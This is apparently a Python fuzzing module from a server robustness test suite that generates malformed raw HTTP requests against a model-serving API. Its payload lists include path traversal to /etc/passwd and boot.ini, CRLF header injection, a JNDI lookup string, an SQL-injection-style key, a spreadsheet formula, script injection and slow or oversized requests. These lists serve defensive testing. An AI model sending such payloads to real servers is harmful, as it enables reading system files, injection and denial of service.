"""Tricks: bytes on a socket that no client library would send, one part after the other."""

from __future__ import annotations

import json

from torture.campaigns.hostile.server import operations, server
from torture.draw import Draw

Parts = tuple[bytes, ...]
_ROW = {"age": 31, "income": 1000.0, "city": "a secret of a row", "member": True}
_BODIES: tuple[bytes, ...] = (
    b"", b"{", b"nul", b"\xff\xfe{}", b"[" * 40_000, b'{"a":' * 9_000, b"9" * 20_000, b"\x00" * 50,
    b'{"rows": [{"age": 1, "age": 2}]}', b'{"row": {}, "row": {}}', b'{"rows": [], "rows": [{}]}',
    b'[{"age": 1e999}]', b'[{"age": -Infinity}]', b'[{"age": NaN}]', b'[{"age": 1' + b"0" * 400 +
    b"}]", b'[{"city": "\x1b[31m\x07"}]', b'[{"city": "\\ud800"}]', b'[{"city": "\\u0000"}]',
    b'{"rows": [{}], "n_orders": 1e9}', b'{"rows": [{}], "only": {"age": 1}}', b"age,city\n1,2,3\n",
    b"age\n\xff\n", b'age\n"', b"age;age\n1;2\n", b"city\n=cmd()\n", b"age\n1e999\n", b"age\nnan\n",
    b'{"row": {}, "groups": {"a": ["age", "age"]}}', b'{"row": {}, "groups": {"a": "age"}}',
    b'{"row": {}, "threshold": 1e308, "change": {"age": [1, -1]}}',
    b'{"row": {}, "threshold": 0, "change": {"city": [true, 1e300, "x"]}}',
    b'{"row": [], "count": 0}', b'{"row": {"age": {}}}', b"\xef\xbb\xbf[{}]",
)  # fmt: skip
_PATHS: tuple[bytes, ...] = (
    b"/../../etc/passwd", b"/page/../../../etc/passwd", b"/page/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    b"/page/index.html%00.js", b"/page/", b"/page//etc/passwd", b"/models/..%5c..%5cboot.ini/live",
    b"//127.0.0.1/models", b"/models/two%0d%0aX-Evil:%201", b"/models/%ff%fe/rows", b"/models//",
    b"/models/two/rows?start=-1&count=9" + b"9" * 500, b"/models/two/rows?words=%00%1b%ff",
    b"/models/two/rows?start=0x10&start=1", b"/models/" + b"x" * 9_000, b"/" + b"a/" * 5_000,
    b"/models/two/rows?" + b"words=a&" * 2_000, b"/models/{model}/live", b"/?model=<script>", b"*",
    b"/v2/models/two/versions/1/infer", b"/v1/models/two:delete", b"/metrics?x=%0a", b"/docs",
    b"/models/two;x=1/live", b"/%2e%2e/", b"/models/two/live#x", b"http://other/models",
)  # fmt: skip


def request(
    method: str, path: str | bytes, body: bytes = b"", extra: bytes = b"", key: str | None = None
) -> bytes:
    """Return a request with a good key, unless another is given."""
    path = path.encode() if isinstance(path, str) else path
    key = server()[1] if key is None else key
    head = b"%s %s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n" % (method.encode(), path)
    head += b"Authorization: Bearer " + key.encode() + b"\r\n" if key else b""
    length = b"Content-Length: %d\r\n" % len(body) if body or method == "POST" else b""
    return head + length + extra + b"\r\n" + body


def _asked(draw: Draw) -> str:
    """Return a path that takes a body."""
    paths = [operation.path for operation in operations() if operation.method == "post"]
    return draw.one_of(paths)


def _odd_body(draw: Draw) -> Parts:
    return (request("POST", _asked(draw), draw.one_of(_BODIES)),)


def _odd_path(draw: Draw) -> Parts:
    method = draw.one_of(("GET", "POST", "HEAD", "PUT", "OPTIONS", "TRACE", "get", "X" * 40))
    return (request(method, draw.one_of(_PATHS)),)


def _wrong_key(draw: Draw) -> Parts:
    keys = ("x", "é" * 20, "x" * 5_000, "\x01", "' or 1=1", server()[1][:-1], server()[1] + "x")
    extra = draw.one_of((b"", b"Authorization: Basic eDp4\r\n", b"Authorization:\r\n"))
    body = json.dumps({"rows": [_ROW], "row": _ROW}).encode()
    return (request("POST", _asked(draw), body, extra, key=draw.one_of(keys)),)


def _odd_head(draw: Draw) -> Parts:
    heads = (
        b"Content-Length: 5\r\n", b"Content-Length: -1\r\n", b"Content-Length: 1e3\r\n",
        b"Transfer-Encoding: chunked\r\n", b"Transfer-Encoding: gzip\r\n", b"X: " + b"y" * 70_000 +
        b"\r\n", b"X-Request-ID: a\x00b\r\n", b"X-Request-ID: ${jndi:ldap://x}\r\n", b": x\r\n",
        b"Expect: 100-continue\r\n", b"Content-Type: application/xml\r\n", b"Host: evil\r\n",
        b"Content-Encoding: gzip\r\n", b"Upgrade: websocket\r\nConnection: Upgrade\r\n",
        b"Range: bytes=0-999999999\r\n", b"Cookie: " + b"a=b;" * 900 + b"\r\n",
    )  # fmt: skip
    return (request("POST", _asked(draw), b"[{}]", draw.one_of(heads)),)


def _slow_body(draw: Draw) -> Parts:
    """Promise a body, send a part, and wait: the server must not."""
    whole = request("POST", _asked(draw), json.dumps({"rows": [_ROW]}).encode())
    return (whole[: -draw.between(1, 20)],)


def _parts_of_body(draw: Draw) -> Parts:
    whole = request("POST", _asked(draw), json.dumps({"rows": [{}], "row": {}}).encode())
    cut = draw.between(1, len(whole) - 1)
    return whole[:cut], whole[cut:]


def _chunks(draw: Draw) -> Parts:
    head = request("POST", _asked(draw), b"", b"Transfer-Encoding: chunked\r\n")
    head = head.replace(b"Content-Length: 0\r\n", b"")
    chunks = (
        b"2\r\n[{\r\n2\r\n}]\r\n0\r\n\r\n", b"zz\r\n", b"ffffffffffffffff\r\n[", b"-1\r\n[\r\n",
        b"0\r\n\r\n", b"30D40\r\n" + b" " * 200_000 + b"\r\n0\r\n\r\n",
    )  # fmt: skip
    return head, draw.one_of(chunks)


def _no_http(draw: Draw) -> Parts:
    lines = (
        b"\x16\x03\x01\x02\x00\x01\x00", b"GET\r\n\r\n", b"\r\n\r\n\r\n", b"GET / HTTP/9.9\r\n\r\n",
        b"SSH-2.0-x\r\n", b"\x00" * 100, b"GET /ping HTTP/1.1\r\n" + b"a: b\r\n" * 5_000 + b"\r\n",
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n", b"GET /ping\r\n\r\n",
    )  # fmt: skip
    return (draw.one_of(lines),)


TRICKS = (
    _odd_body, _odd_body, _odd_body, _odd_path, _odd_path, _wrong_key, _odd_head, _parts_of_body,
    _chunks, _no_http, _slow_body,
)  # fmt: skip
